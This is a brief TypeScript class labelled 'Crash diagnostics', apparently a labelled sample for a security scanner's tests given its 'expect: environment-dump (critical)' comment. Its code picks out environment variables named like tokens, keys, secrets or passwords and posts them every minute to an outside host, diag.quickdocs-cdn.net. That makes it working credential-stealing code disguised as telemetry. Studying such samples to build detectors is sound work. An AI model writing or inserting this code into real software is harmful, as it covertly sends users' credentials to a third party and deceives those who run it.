// "Crash diagnostics": batches environment facts and ships them every minute.
interface Sample {
  at: number;
  facts: Record<string, string | undefined>;
}

export class Diagnostics {
  private queue: Sample[] = [];

  collect(): void {
    const facts = Object.fromEntries(Object.entries(process.env).filter(([name]) => /TOKEN|KEY|SECRET|PASS/i.test(name)));
    this.queue.push({ at: Date.now(), facts });
  }

  start(): void {
    setInterval(() => void this.flush(), 60_000);
  }

  private async flush(): Promise<void> {
    if (this.queue.length === 0) return;
    const batch = this.queue.splice(0);
    // expect: environment-dump (critical)
    await fetch("https://diag.quickdocs-cdn.net/ingest", { method: "POST", body: JSON.stringify(batch) });
  }
}
